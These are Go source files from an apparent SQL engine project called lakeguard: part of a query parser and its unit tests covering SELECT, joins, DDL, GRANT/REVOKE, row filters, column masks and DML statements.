		if err := p.expect("("); err != nil {
			return nil, err
		}
		var row []types.Value
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			v, err := constEval(e)
			if err != nil {
				return nil, p.errorf("VALUES requires constant expressions: %v", err)
			}
			row = append(row, v)
			if !p.accept(",") {
				break
			}
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		rows = append(rows, row)
		if !p.accept(",") {
			return rows, nil
		}
	}
}

// constEval evaluates literal-only expressions at parse time (VALUES rows).
func constEval(e plan.Expr) (types.Value, error) {
	switch t := e.(type) {
	case *plan.Literal:
		return t.Value, nil
	case *plan.Unary:
		if t.Op == plan.OpNeg {
			v, err := constEval(t.Child)
			if err != nil {
				return types.Value{}, err
			}
			switch v.Kind {
			case types.KindInt64:
				return types.Int64(-v.I), nil
			case types.KindFloat64:
				return types.Float64(-v.F), nil
			}
		}
	case *plan.Cast:
		v, err := constEval(t.Child)
		if err != nil {
			return types.Value{}, err
		}
		return v.Cast(t.To)
	}
	return types.Value{}, fmt.Errorf("not a constant: %s", e.String())
}

// parseSelect parses a single SELECT ... block.
func (p *parser) parseSelect() (plan.Node, error) {
	if err := p.expect("SELECT"); err != nil {
		return nil, err
	}
	distinct := p.accept("DISTINCT")
	var items []plan.Expr
	for {
		item, err := p.parseSelectItem()
		if err != nil {
			return nil, err
		}
		items = append(items, item)
		if !p.accept(",") {
			break
		}
	}

	var node plan.Node
	if p.accept("FROM") {
		from, err := p.parseFromClause()
		if err != nil {
			return nil, err
		}
		node = from
	} else {
		// SELECT without FROM: one-row relation.
		one := types.NewBatchBuilder(types.NewSchema(types.Field{Name: "dummy", Kind: types.KindInt64}), 1)
		one.AppendRow([]types.Value{types.Int64(0)})
		node = &plan.LocalRelation{Data: one.Build()}
	}

	if p.accept("WHERE") {
		cond, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		node = &plan.Filter{Cond: cond, Child: node}
	}

	var groupBy []plan.Expr
	hasGroupBy := false
	if p.peekKeyword("GROUP") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expect("BY"); err != nil {
			return nil, err
		}
		hasGroupBy = true
		for {
			g, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			groupBy = append(groupBy, g)
			if !p.accept(",") {
				break
			}
		}
	}

	var having plan.Expr
	if p.accept("HAVING") {
		h, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		having = h
	}

	if hasGroupBy || having != nil || containsAggregate(items) {
		node = &plan.Aggregate{GroupBy: groupBy, Aggs: items, Child: node}
		if having != nil {
			node = &plan.Filter{Cond: having, Child: node}
		}
	} else {
		node = &plan.Project{Exprs: items, Child: node}
	}

	if distinct {
		node = &plan.Distinct{Child: node}
	}
	return p.parseOrderLimit(node)
}

// parseOrderLimit attaches optional ORDER BY and LIMIT/OFFSET clauses.
func (p *parser) parseOrderLimit(node plan.Node) (plan.Node, error) {
	if p.peekKeyword("ORDER") {
		if err := p.advance(); err != nil {
			return nil, err
		}
		if err := p.expect("BY"); err != nil {
			return nil, err
		}
		var orders []plan.SortOrder
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			o := plan.SortOrder{Expr: e}
			if p.accept("DESC") {
				o.Desc = true
			} else {
				p.accept("ASC")
			}
			orders = append(orders, o)
			if !p.accept(",") {
				break
			}
		}
		node = &plan.Sort{Orders: orders, Child: node}
	}
	if p.accept("LIMIT") {
		n, err := p.parseIntLiteral()
		if err != nil {
			return nil, err
		}
		var offset int64
		if p.accept("OFFSET") {
			offset, err = p.parseIntLiteral()
			if err != nil {
				return nil, err
			}
		}
		node = &plan.Limit{N: n, Offset: offset, Child: node}
	}
	return node, nil
}

func (p *parser) parseIntLiteral() (int64, error) {
	if p.cur.Kind != TokNumber {
		return 0, p.errorf("expected integer, found %q", p.cur.Text)
	}
	n, err := strconv.ParseInt(p.cur.Text, 10, 64)
	if err != nil {
		return 0, p.errorf("invalid integer %q", p.cur.Text)
	}
	if err := p.advance(); err != nil {
		return 0, err
	}
	return n, nil
}

func (p *parser) parseSelectItem() (plan.Expr, error) {
	// Star and qualified star.
	if p.cur.Kind == TokOp && p.cur.Text == "*" {
		if err := p.advance(); err != nil {
			return nil, err
		}
		return &plan.Star{}, nil
	}
	e, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	// t.* comes out of parseExpr as a ColumnRef followed by ".*"? No — handle
	// qualified star here: ColumnRef ending in parse position ".*" is handled
	// in parsePrimary. Aliases:
	if p.accept("AS") {
		name, err := p.ident()
		if err != nil {
			return nil, err
		}
		return plan.As(e, name), nil
	}
	// Implicit alias: bare identifier following an expression.
	if p.cur.Kind == TokIdent && !p.isClauseKeyword(p.cur.Text) {
		name, err := p.ident()
		if err != nil {
			return nil, err
		}
		return plan.As(e, name), nil
	}
	return e, nil
}

var clauseKeywords = map[string]bool{
	"FROM": true, "WHERE": true, "GROUP": true, "HAVING": true, "ORDER": true,
	"LIMIT": true, "OFFSET": true, "UNION": true, "ON": true, "JOIN": true,
	"INNER": true, "LEFT": true, "RIGHT": true, "FULL": true, "CROSS": true,
	"AND": true, "OR": true, "NOT": true, "AS": true, "ASC": true, "DESC": true,
	"WHEN": true, "THEN": true, "ELSE": true, "END": true, "IN": true,
	"IS": true, "LIKE": true, "BETWEEN": true, "CASE": true, "VALUES": true,
	"SELECT": true, "DISTINCT": true, "WITH": true, "VERSION": true, "SEMI": true, "ANTI": true,
}

func (p *parser) isClauseKeyword(s string) bool { return clauseKeywords[strings.ToUpper(s)] }

// parseFromClause parses table refs with joins.
func (p *parser) parseFromClause() (plan.Node, error) {
	left, err := p.parseTableRef()
	if err != nil {
		return nil, err
	}
	for {
		// Comma join = cross join.
		if p.accept(",") {
			right, err := p.parseTableRef()
			if err != nil {
				return nil, err
			}
			left = &plan.Join{Type: plan.JoinCross, L: left, R: right}
			continue
		}
		jt, isJoin, err := p.parseJoinType()
		if err != nil {
			return nil, err
		}
		if !isJoin {
			return left, nil
		}
		right, err := p.parseTableRef()
		if err != nil {
			return nil, err
		}
		var cond plan.Expr
		if jt != plan.JoinCross {
			if err := p.expect("ON"); err != nil {
				return nil, err
			}
			cond, err = p.parseExpr()
			if err != nil {
				return nil, err
			}
		}
		left = &plan.Join{Type: jt, Cond: cond, L: left, R: right}
	}
}

func (p *parser) parseJoinType() (plan.JoinType, bool, error) {
	switch {
	case p.accept("JOIN"):
		return plan.JoinInner, true, nil
	case p.peekKeyword("INNER"):
		_ = p.advance()
		return plan.JoinInner, true, p.expect("JOIN")
	case p.peekKeyword("LEFT"):
		_ = p.advance()
		if p.accept("SEMI") {
			return plan.JoinLeftSemi, true, p.expect("JOIN")
		}
		if p.accept("ANTI") {
			return plan.JoinLeftAnti, true, p.expect("JOIN")
		}
		p.accept("OUTER")
		return plan.JoinLeft, true, p.expect("JOIN")
	case p.peekKeyword("RIGHT"):
		_ = p.advance()
		p.accept("OUTER")
		return plan.JoinRight, true, p.expect("JOIN")
	case p.peekKeyword("FULL"):
		_ = p.advance()
		p.accept("OUTER")
		return plan.JoinFull, true, p.expect("JOIN")
	case p.peekKeyword("CROSS"):
		_ = p.advance()
		return plan.JoinCross, true, p.expect("JOIN")
	}
	return 0, false, nil
}

// parseTableRef parses a base table, subquery, or VALUES with optional alias.
func (p *parser) parseTableRef() (plan.Node, error) {
	var node plan.Node
	if p.cur.Kind == TokOp && p.cur.Text == "(" {
		if err := p.advance(); err != nil {
			return nil, err
		}
		sub, err := p.parseQueryExpr()
		if err != nil {
			return nil, err
		}
		if err := p.expect(")"); err != nil {
			return nil, err
		}
		node = sub
	} else if p.peekKeyword("VALUES") {
		v, err := p.parseValuesRelation()
		if err != nil {
			return nil, err
		}
		node = v
	} else {
		parts, err := p.qualifiedName()
		if err != nil {
			return nil, err
		}
		rel := plan.NewUnresolvedRelation(parts...)
		// Time travel: VERSION AS OF n
		if p.peekKeyword("VERSION") {
			if err := p.advance(); err != nil {
				return nil, err
			}
			if err := p.expect("AS"); err != nil {
				return nil, err
			}
			if err := p.expect("OF"); err != nil {
				return nil, err
			}
			v, err := p.parseIntLiteral()
			if err != nil {
				return nil, err
			}
			rel.AsOfVersion = v
		}
		node = rel
	}
	// Optional alias.
	if p.accept("AS") {
		name, err := p.ident()
		if err != nil {
			return nil, err
		}
		return &plan.SubqueryAlias{Name: name, Child: node}, nil
	}
	if p.cur.Kind == TokIdent && !p.isClauseKeyword(p.cur.Text) {
		name, err := p.ident()
		if err != nil {
			return nil, err
		}
		return &plan.SubqueryAlias{Name: name, Child: node}, nil
	}
	return node, nil
}

// containsAggregate reports whether any select item contains an aggregate
// function call (by name, pre-resolution).
func containsAggregate(items []plan.Expr) bool {
	for _, it := range items {
		if plan.ExprContains(it, func(e plan.Expr) bool {
			if f, ok := e.(*plan.FuncCall); ok {
				return isAggregateName(f.Name)
			}
			_, ok := e.(*plan.AggFunc)
			return ok
		}) {
			return true
		}
	}
	return false
}

func isAggregateName(name string) bool {
	switch strings.ToLower(name) {
	case "sum", "count", "min", "max", "avg":
		return true
	}
	return false
}
