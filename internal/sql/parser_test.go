package sql

import (
	"strings"
	"testing"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

func mustParse(t *testing.T, src string) *Statement {
	t.Helper()
	st, err := Parse(src)
	if err != nil {
		t.Fatalf("Parse(%q): %v", src, err)
	}
	return st
}

func mustQuery(t *testing.T, src string) plan.Node {
	t.Helper()
	st := mustParse(t, src)
	if st.Query == nil {
		t.Fatalf("Parse(%q): expected query", src)
	}
	return st.Query
}

func TestLexerBasics(t *testing.T) {
	toks, err := Tokenize("SELECT a, 'it''s' FROM t -- comment\nWHERE x >= 1.5e3 /* block */ AND `q id` <> 2")
	if err != nil {
		t.Fatal(err)
	}
	var kinds []TokenKind
	var texts []string
	for _, tok := range toks {
		kinds = append(kinds, tok.Kind)
		texts = append(texts, tok.Text)
	}
	joined := strings.Join(texts, "|")
	for _, want := range []string{"SELECT", "it's", ">=", "1.5e3", "q id", "<>"} {
		if !strings.Contains(joined, want) {
			t.Errorf("tokens missing %q: %s", want, joined)
		}
	}
	if kinds[len(kinds)-1] != TokEOF {
		t.Error("missing EOF token")
	}
}

func TestLexerErrors(t *testing.T) {
	if _, err := Tokenize("'unterminated"); err == nil {
		t.Error("expected unterminated string error")
	}
	if _, err := Tokenize("a $ b"); err == nil {
		t.Error("expected bad character error")
	}
}

func TestParseSimpleSelect(t *testing.T) {
	q := mustQuery(t, "SELECT amount, date, seller FROM sales WHERE date = '2024-12-01'")
	proj, ok := q.(*plan.Project)
	if !ok {
		t.Fatalf("root is %T, want Project", q)
	}
	if len(proj.Exprs) != 3 {
		t.Fatalf("projection arity %d", len(proj.Exprs))
	}
	f, ok := proj.Child.(*plan.Filter)
	if !ok {
		t.Fatalf("child is %T, want Filter", proj.Child)
	}
	rel, ok := f.Child.(*plan.UnresolvedRelation)
	if !ok || rel.Name() != "sales" {
		t.Fatalf("leaf = %v", f.Child)
	}
}

func TestParseQualifiedNamesAndStar(t *testing.T) {
	q := mustQuery(t, "SELECT t.*, main.schema1.tbl.c FROM main.schema1.tbl t")
	proj := q.(*plan.Project)
	star, ok := proj.Exprs[0].(*plan.Star)
	if !ok || star.Qualifier != "t" {
		t.Errorf("first item = %v", proj.Exprs[0])
	}
	ref, ok := proj.Exprs[1].(*plan.ColumnRef)
	if !ok || ref.Qualifier != "main.schema1.tbl" || ref.Name != "c" {
		t.Errorf("second item = %v", proj.Exprs[1])
	}
	alias, ok := proj.Child.(*plan.SubqueryAlias)
	if !ok || alias.Name != "t" {
		t.Fatalf("from = %v", proj.Child)
	}
}

func TestParseExprPrecedence(t *testing.T) {
	e, err := ParseExpr("1 + 2 * 3 = 7 AND NOT a OR b")
	if err != nil {
		t.Fatal(err)
	}
	// ((1 + (2*3)) = 7 AND NOT a) OR b
	want := "((((1 + (2 * 3)) = 7) AND (NOT a)) OR b)"
	if got := e.String(); got != want {
		t.Errorf("precedence: got %s want %s", got, want)
	}
}

func TestParseExprForms(t *testing.T) {
	cases := []struct{ in, want string }{
		{"a IS NULL", "(a IS NULL)"},
		{"a IS NOT NULL", "(a IS NOT NULL)"},
		{"a IN (1, 2, 3)", "(a IN (1, 2, 3))"},
		{"a NOT IN (1)", "(a NOT IN (1))"},
		{"s LIKE 'x%'", "(s LIKE 'x%')"},
		{"s NOT LIKE 'x%'", "(s NOT LIKE 'x%')"},
		{"a BETWEEN 1 AND 10", "((a >= 1) AND (a <= 10))"},
		{"a NOT BETWEEN 1 AND 10", "(NOT ((a >= 1) AND (a <= 10)))"},
		{"CAST(a AS STRING)", "CAST(a AS STRING)"},
		{"CASE WHEN a THEN 1 ELSE 0 END", "CASE WHEN a THEN 1 ELSE 0 END"},
		{"CASE x WHEN 1 THEN 'a' END", "CASE WHEN (x = 1) THEN 'a' END"},
		{"CURRENT_USER()", "CURRENT_USER()"},
		{"IS_ACCOUNT_GROUP_MEMBER('hr')", "IS_ACCOUNT_GROUP_MEMBER('hr')"},
		{"upper(s) || '!'", "(UPPER(s) || '!')"},
		{"-5", "-5"},
		{"-x", "(-x)"},
		{"a % 3", "(a % 3)"},
		{"DATE '2024-12-01'", "DATE '2024-12-01'"},
		{"TRUE AND FALSE", "(true AND false)"},
		{"count(DISTINCT a)", "COUNT(DISTINCT a)"},
	}
	for _, c := range cases {
		e, err := ParseExpr(c.in)
		if err != nil {
			t.Errorf("ParseExpr(%q): %v", c.in, err)
			continue
		}
		if got := e.String(); got != c.want {
			t.Errorf("ParseExpr(%q) = %s, want %s", c.in, got, c.want)
		}
	}
}

func TestParseExprErrors(t *testing.T) {
	bad := []string{
		"a +", "CAST(a AS NOPE)", "a NOT 5", "CASE END",
		"IS_ACCOUNT_GROUP_MEMBER(x)", "CURRENT_USER(1)", "sum(*)",
	}
	for _, src := range bad {
		if _, err := ParseExpr(src); err == nil {
			t.Errorf("ParseExpr(%q): expected error", src)
		}
	}
}

func TestParseGroupByHaving(t *testing.T) {
	q := mustQuery(t, "SELECT seller, SUM(amount) AS total FROM sales GROUP BY seller HAVING SUM(amount) > 100 ORDER BY total DESC LIMIT 5")
	lim, ok := q.(*plan.Limit)
	if !ok || lim.N != 5 {
		t.Fatalf("root = %T", q)
	}
	sort, ok := lim.Child.(*plan.Sort)
	if !ok || !sort.Orders[0].Desc {
		t.Fatalf("sort = %v", lim.Child)
	}
	having, ok := sort.Child.(*plan.Filter)
	if !ok {
		t.Fatalf("having = %T", sort.Child)
	}
	agg, ok := having.Child.(*plan.Aggregate)
	if !ok || len(agg.GroupBy) != 1 || len(agg.Aggs) != 2 {
		t.Fatalf("agg = %v", having.Child)
	}
}

func TestImplicitAggregateWithoutGroupBy(t *testing.T) {
	q := mustQuery(t, "SELECT COUNT(*) FROM t")
	if _, ok := q.(*plan.Aggregate); !ok {
		t.Fatalf("root = %T, want Aggregate", q)
	}
}

func TestParseJoins(t *testing.T) {
	cases := []struct {
		src string
		typ plan.JoinType
	}{
		{"SELECT * FROM a JOIN b ON a.id = b.id", plan.JoinInner},
		{"SELECT * FROM a INNER JOIN b ON a.id = b.id", plan.JoinInner},
		{"SELECT * FROM a LEFT JOIN b ON a.id = b.id", plan.JoinLeft},
		{"SELECT * FROM a LEFT OUTER JOIN b ON a.id = b.id", plan.JoinLeft},
		{"SELECT * FROM a RIGHT JOIN b ON a.id = b.id", plan.JoinRight},
		{"SELECT * FROM a FULL JOIN b ON a.id = b.id", plan.JoinFull},
		{"SELECT * FROM a CROSS JOIN b", plan.JoinCross},
		{"SELECT * FROM a LEFT SEMI JOIN b ON a.id = b.id", plan.JoinLeftSemi},
		{"SELECT * FROM a LEFT ANTI JOIN b ON a.id = b.id", plan.JoinLeftAnti},
		{"SELECT * FROM a, b", plan.JoinCross},
	}
	for _, c := range cases {
		q := mustQuery(t, c.src)
		found := false
		plan.Walk(q, func(n plan.Node) bool {
			if j, ok := n.(*plan.Join); ok {
				if j.Type != c.typ {
					t.Errorf("%q: join type %v, want %v", c.src, j.Type, c.typ)
				}
				found = true
			}
			return true
		})
		if !found {
			t.Errorf("%q: no join in plan", c.src)
		}
	}
}

func TestParseSubqueryAndCTE(t *testing.T) {
	q := mustQuery(t, "WITH us AS (SELECT * FROM sales WHERE region = 'US') SELECT seller FROM us")
	if !plan.Contains(q, func(n plan.Node) bool {
		sa, ok := n.(*plan.SubqueryAlias)
		return ok && sa.Name == "us"
	}) {
		t.Error("CTE not substituted")
	}
	q2 := mustQuery(t, "SELECT x FROM (SELECT a AS x FROM t) sub")
	if !plan.Contains(q2, func(n plan.Node) bool {
		sa, ok := n.(*plan.SubqueryAlias)
		return ok && sa.Name == "sub"
	}) {
		t.Error("subquery alias missing")
	}
}

func TestParseUnion(t *testing.T) {
	q := mustQuery(t, "SELECT a FROM t UNION ALL SELECT a FROM u")
	if _, ok := q.(*plan.Union); !ok {
		t.Fatalf("root = %T", q)
	}
	q2 := mustQuery(t, "SELECT a FROM t UNION SELECT a FROM u")
	if _, ok := q2.(*plan.Distinct); !ok {
		t.Fatalf("UNION should wrap in Distinct, got %T", q2)
	}
}

func TestParseValues(t *testing.T) {
	q := mustQuery(t, "VALUES (1, 'a'), (2, 'b')")
	lr, ok := q.(*plan.LocalRelation)
	if !ok {
		t.Fatalf("root = %T", q)
	}
	if lr.Data.NumRows() != 2 || lr.Data.NumCols() != 2 {
		t.Fatalf("shape %dx%d", lr.Data.NumRows(), lr.Data.NumCols())
	}
	if lr.Data.Cols[0].Int64(1) != 2 || lr.Data.Cols[1].StringAt(0) != "a" {
		t.Error("values content wrong")
	}
	if _, err := Parse("VALUES (1), (2, 3)"); err == nil {
		t.Error("expected arity error")
	}
}

func TestParseTimeTravel(t *testing.T) {
	q := mustQuery(t, "SELECT * FROM t VERSION AS OF 3")
	found := false
	plan.Walk(q, func(n plan.Node) bool {
		if r, ok := n.(*plan.UnresolvedRelation); ok && r.AsOfVersion == 3 {
			found = true
		}
		return true
	})
	if !found {
		t.Error("time travel version not captured")
	}
}

func TestParseCreateTable(t *testing.T) {
	st := mustParse(t, "CREATE TABLE main.clinical.raw (id BIGINT NOT NULL, name STRING COMMENT 'patient', score DOUBLE)")
	ct, ok := st.Cmd.(*plan.CreateTable)
	if !ok {
		t.Fatalf("cmd = %T", st.Cmd)
	}
	if len(ct.Name) != 3 || ct.TableSchema.Len() != 3 {
		t.Fatal("create table shape")
	}
	if ct.TableSchema.Fields[0].Nullable {
		t.Error("NOT NULL not captured")
	}
	if ct.TableSchema.Fields[1].Comment != "patient" {
		t.Error("comment not captured")
	}
}

func TestParseCreateViewCapturesBody(t *testing.T) {
	st := mustParse(t, "CREATE VIEW v AS SELECT a FROM t WHERE a > 1")
	cv := st.Cmd.(*plan.CreateView)
	if cv.Query != "SELECT a FROM t WHERE a > 1" {
		t.Errorf("view body = %q", cv.Query)
	}
	st2 := mustParse(t, "CREATE OR REPLACE MATERIALIZED VIEW mv AS SELECT 1 AS one")
	cv2 := st2.Cmd.(*plan.CreateView)
	if !cv2.Materialized || !cv2.OrReplace {
		t.Error("flags not captured")
	}
}

func TestParseCreateFunction(t *testing.T) {
	st := mustParse(t, "CREATE FUNCTION main.fns.add2(a BIGINT, b BIGINT) RETURNS BIGINT AS 'return a + b'")
	cf := st.Cmd.(*plan.CreateFunction)
	if len(cf.Params) != 2 || cf.Returns != types.KindInt64 || cf.Body != "return a + b" {
		t.Fatalf("function = %+v", cf)
	}
}

func TestParseGrantRevoke(t *testing.T) {
	st := mustParse(t, "GRANT SELECT ON TABLE main.s.t TO 'alice@corp.com'")
	g := st.Cmd.(*plan.Grant)
	if g.Privilege != "SELECT" || g.Principal != "alice@corp.com" {
		t.Fatalf("grant = %+v", g)
	}
	st2 := mustParse(t, "REVOKE MODIFY ON main.s.t FROM data_scientists")
	r := st2.Cmd.(*plan.Revoke)
	if r.Privilege != "MODIFY" || r.Principal != "data_scientists" {
		t.Fatalf("revoke = %+v", r)
	}
	if _, err := Parse("GRANT FLY ON t TO u"); err == nil {
		t.Error("expected unknown privilege error")
	}
}

func TestParseRowFilterAndMask(t *testing.T) {
	st := mustParse(t, "ALTER TABLE main.s.sales SET ROW FILTER 'region = ''US'' OR IS_ACCOUNT_GROUP_MEMBER(''admins'')'")
	rf := st.Cmd.(*plan.SetRowFilter)
	if !strings.Contains(rf.FilterSQL, "region = 'US'") {
		t.Errorf("filter = %q", rf.FilterSQL)
	}
	st2 := mustParse(t, "ALTER TABLE t ALTER COLUMN ssn SET MASK 'CASE WHEN IS_ACCOUNT_GROUP_MEMBER(''hr'') THEN ssn ELSE ''***'' END'")
	cm := st2.Cmd.(*plan.SetColumnMask)
	if cm.Column != "ssn" {
		t.Fatalf("mask = %+v", cm)
	}
	st3 := mustParse(t, "ALTER TABLE t DROP ROW FILTER")
	if !st3.Cmd.(*plan.SetRowFilter).Drop {
		t.Error("drop flag missing")
	}
	st4 := mustParse(t, "ALTER TABLE t ALTER COLUMN c DROP MASK")
	if !st4.Cmd.(*plan.SetColumnMask).Drop {
		t.Error("mask drop flag missing")
	}
	// Invalid policy SQL rejected at DDL time.
	if _, err := Parse("ALTER TABLE t SET ROW FILTER 'region = '"); err == nil {
		t.Error("expected invalid filter expression error")
	}
}

func TestParseInsert(t *testing.T) {
	st := mustParse(t, "INSERT INTO t VALUES (1, 'a'), (2, 'b')")
	ins := st.Cmd.(*plan.InsertInto)
	if len(ins.Rows) != 2 {
		t.Fatalf("rows = %d", len(ins.Rows))
	}
	st2 := mustParse(t, "INSERT INTO t SELECT * FROM u")
	if st2.Cmd.(*plan.InsertInto).Query == nil {
		t.Error("insert-select query missing")
	}
}

func TestParseInsertNegativeValues(t *testing.T) {
	st := mustParse(t, "INSERT INTO t VALUES (-5, CAST('2024-01-01' AS DATE))")
	ins := st.Cmd.(*plan.InsertInto)
	if ins.Rows[0][0].I != -5 {
		t.Errorf("negative literal = %v", ins.Rows[0][0])
	}
	if ins.Rows[0][1].Kind != types.KindDate {
		t.Errorf("cast literal kind = %v", ins.Rows[0][1].Kind)
	}
}

func TestParseExplainAndDrop(t *testing.T) {
	st := mustParse(t, "EXPLAIN SELECT 1")
	if !st.Explain || st.Query == nil {
		t.Error("explain flag")
	}
	st2 := mustParse(t, "DROP TABLE IF EXISTS t")
	d := st2.Cmd.(*plan.DropTable)
	if !d.IfExists || d.View {
		t.Error("drop table flags")
	}
	st3 := mustParse(t, "REFRESH MATERIALIZED VIEW mv")
	if st3.Cmd.(*plan.RefreshMaterializedView) == nil {
		t.Error("refresh missing")
	}
}

func TestParseStatementErrors(t *testing.T) {
	bad := []string{
		"", "SELEC 1", "SELECT 1 FROM", "SELECT * FROM t WHERE",
		"CREATE NONSENSE x", "SELECT 1 extra garbage ,",
		"INSERT INTO t VALUES (a)", // non-constant
		"SELECT * FROM t LIMIT x",
	}
	for _, src := range bad {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q): expected error", src)
		}
	}
}

func TestSelectWithoutFrom(t *testing.T) {
	q := mustQuery(t, "SELECT 1 + 2 AS three")
	proj, ok := q.(*plan.Project)
	if !ok {
		t.Fatalf("root = %T", q)
	}
	if _, ok := proj.Child.(*plan.LocalRelation); !ok {
		t.Fatalf("child = %T", proj.Child)
	}
}

func TestParseDistinct(t *testing.T) {
	q := mustQuery(t, "SELECT DISTINCT region FROM sales")
	if _, ok := q.(*plan.Distinct); !ok {
		t.Fatalf("root = %T", q)
	}
}

func TestTrailingSemicolon(t *testing.T) {
	mustQuery(t, "SELECT 1;")
}
