package sql

import (
	"testing"

	"lakeguard/internal/plan"
)

func TestParseCTAS(t *testing.T) {
	st := mustParse(t, "CREATE TABLE summary AS SELECT region, SUM(amount) AS t FROM sales GROUP BY region")
	c, ok := st.Cmd.(*plan.CreateTableAs)
	if !ok {
		t.Fatalf("cmd = %T", st.Cmd)
	}
	if c.Name[0] != "summary" || c.Query == nil || c.IfNotExists {
		t.Fatalf("ctas = %+v", c)
	}
	st2 := mustParse(t, "CREATE TABLE IF NOT EXISTS s2 AS SELECT 1 AS one")
	if !st2.Cmd.(*plan.CreateTableAs).IfNotExists {
		t.Error("if-not-exists flag lost")
	}
	// Plain create still works.
	if _, ok := mustParse(t, "CREATE TABLE t (x BIGINT)").Cmd.(*plan.CreateTable); !ok {
		t.Error("plain create broke")
	}
}

func TestParseDelete(t *testing.T) {
	st := mustParse(t, "DELETE FROM main.s.t WHERE region = 'EU' AND amount > 10")
	d := st.Cmd.(*plan.DeleteFrom)
	if len(d.Table) != 3 || d.Where == nil {
		t.Fatalf("delete = %+v", d)
	}
	st2 := mustParse(t, "DELETE FROM t")
	if st2.Cmd.(*plan.DeleteFrom).Where != nil {
		t.Error("bare delete should have nil predicate")
	}
	if _, err := Parse("DELETE t"); err == nil {
		t.Error("missing FROM should fail")
	}
}

func TestParseShowAndDescribe(t *testing.T) {
	if _, ok := mustParse(t, "SHOW TABLES").Cmd.(*plan.ShowTables); !ok {
		t.Error("show tables")
	}
	d := mustParse(t, "DESCRIBE main.s.t").Cmd.(*plan.DescribeTable)
	if len(d.Name) != 3 {
		t.Errorf("describe = %+v", d)
	}
	d2 := mustParse(t, "DESC TABLE t").Cmd.(*plan.DescribeTable)
	if len(d2.Name) != 1 {
		t.Errorf("desc = %+v", d2)
	}
	if _, err := Parse("SHOW NONSENSE"); err == nil {
		t.Error("expected error")
	}
}

func TestParseUpdate(t *testing.T) {
	st := mustParse(t, "UPDATE main.s.t SET a = a + 1, b = 'x' WHERE id > 3")
	u := st.Cmd.(*plan.Update)
	if len(u.Table) != 3 || len(u.Set) != 2 || u.Where == nil {
		t.Fatalf("update = %+v", u)
	}
	if u.Set[0].Column != "a" || u.Set[1].Column != "b" {
		t.Errorf("assignments = %+v", u.Set)
	}
	st2 := mustParse(t, "UPDATE t SET a = 0")
	if st2.Cmd.(*plan.Update).Where != nil {
		t.Error("bare update should have nil predicate")
	}
	for _, bad := range []string{"UPDATE t", "UPDATE t SET", "UPDATE t SET a", "UPDATE t WHERE x = 1"} {
		if _, err := Parse(bad); err == nil {
			t.Errorf("%q should fail to parse", bad)
		}
	}
}

func TestParseMergeInto(t *testing.T) {
	st := mustParse(t, `MERGE INTO sales AS t USING staging AS s ON t.id = s.id
		WHEN MATCHED THEN UPDATE SET amount = s.amount
		WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.amount)`)
	m := st.Cmd.(*plan.MergeInto)
	if m.TableAlias != "t" || m.SourceAlias != "s" || m.On == nil {
		t.Fatalf("merge = %+v", m)
	}
	if len(m.MatchedSet) != 1 || m.MatchedDelete || len(m.InsertValues) != 2 {
		t.Fatalf("merge clauses = %+v", m)
	}

	// DELETE clause, subquery source, no aliases.
	st2 := mustParse(t, `MERGE INTO sales USING (SELECT id FROM gone) ON sales.id = id
		WHEN MATCHED THEN DELETE`)
	m2 := st2.Cmd.(*plan.MergeInto)
	if !m2.MatchedDelete || m2.MatchedSet != nil || m2.InsertValues != nil {
		t.Fatalf("merge-delete = %+v", m2)
	}

	for _, bad := range []string{
		"MERGE INTO t USING s ON t.id = s.id", // no WHEN clause
		"MERGE INTO t USING s WHEN MATCHED THEN DELETE",
		"MERGE t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
		`MERGE INTO t USING s ON t.id = s.id
			WHEN MATCHED THEN DELETE
			WHEN MATCHED THEN UPDATE SET a = 1`, // two matched clauses
	} {
		if _, err := Parse(bad); err == nil {
			t.Errorf("%q should fail to parse", bad)
		}
	}
}

func TestParseOptimizeAndVacuum(t *testing.T) {
	o := mustParse(t, "OPTIMIZE main.s.t").Cmd.(*plan.OptimizeTable)
	if len(o.Table) != 3 || o.TargetBytes != 0 {
		t.Fatalf("optimize = %+v", o)
	}
	o2 := mustParse(t, "OPTIMIZE t TARGET SIZE 65536").Cmd.(*plan.OptimizeTable)
	if o2.TargetBytes != 65536 {
		t.Fatalf("optimize target = %+v", o2)
	}
	if _, err := Parse("OPTIMIZE t TARGET SIZE 0"); err == nil {
		t.Error("zero target size should fail")
	}
	v := mustParse(t, "VACUUM main.s.t").Cmd.(*plan.VacuumTable)
	if len(v.Table) != 3 {
		t.Fatalf("vacuum = %+v", v)
	}
	if _, err := Parse("VACUUM"); err == nil {
		t.Error("vacuum without table should fail")
	}
}
