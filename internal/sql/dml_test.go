package sql

import (
	"testing"

	"lakeguard/internal/plan"
)

func TestParseCTAS(t *testing.T) {
	st := mustParse(t, "CREATE TABLE summary AS SELECT region, SUM(amount) AS t FROM sales GROUP BY region")
	c, ok := st.Cmd.(*plan.CreateTableAs)
	if !ok {
		t.Fatalf("cmd = %T", st.Cmd)
	}
	if c.Name[0] != "summary" || c.Query == nil || c.IfNotExists {
		t.Fatalf("ctas = %+v", c)
	}
	st2 := mustParse(t, "CREATE TABLE IF NOT EXISTS s2 AS SELECT 1 AS one")
	if !st2.Cmd.(*plan.CreateTableAs).IfNotExists {
		t.Error("if-not-exists flag lost")
	}
	// Plain create still works.
	if _, ok := mustParse(t, "CREATE TABLE t (x BIGINT)").Cmd.(*plan.CreateTable); !ok {
		t.Error("plain create broke")
	}
}

func TestParseDelete(t *testing.T) {
	st := mustParse(t, "DELETE FROM main.s.t WHERE region = 'EU' AND amount > 10")
	d := st.Cmd.(*plan.DeleteFrom)
	if len(d.Table) != 3 || d.Where == nil {
		t.Fatalf("delete = %+v", d)
	}
	st2 := mustParse(t, "DELETE FROM t")
	if st2.Cmd.(*plan.DeleteFrom).Where != nil {
		t.Error("bare delete should have nil predicate")
	}
	if _, err := Parse("DELETE t"); err == nil {
		t.Error("missing FROM should fail")
	}
}

func TestParseShowAndDescribe(t *testing.T) {
	if _, ok := mustParse(t, "SHOW TABLES").Cmd.(*plan.ShowTables); !ok {
